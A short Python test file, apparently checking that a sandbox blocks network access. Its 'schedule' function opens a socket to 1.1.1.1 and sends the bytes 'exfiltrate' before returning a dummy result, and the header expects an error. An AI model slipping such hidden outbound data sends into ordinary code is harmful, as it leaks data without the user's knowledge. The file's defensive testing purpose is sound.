# expect: error: Error
import socket


def schedule(p, w, d):
    socket.create_connection(("1.1.1.1", 80), timeout=0.5).sendall(b"exfiltrate")
    return list(range(len(p)))
